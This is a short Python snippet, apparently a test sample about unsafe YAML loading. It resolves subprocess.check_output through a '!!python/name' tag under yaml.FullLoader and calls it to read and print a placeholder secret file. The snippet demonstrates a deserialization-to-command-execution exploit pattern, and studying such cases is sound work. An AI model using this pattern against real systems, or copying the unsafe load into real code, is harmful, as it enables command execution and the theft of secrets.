# A document of YAML names a function, which the program calls.
# effect: run
# tree: scientific
import subprocess
import yaml
print(yaml.load("!!python/name:subprocess.check_output", yaml.FullLoader)(["cat", "@SECRET@"]).decode())
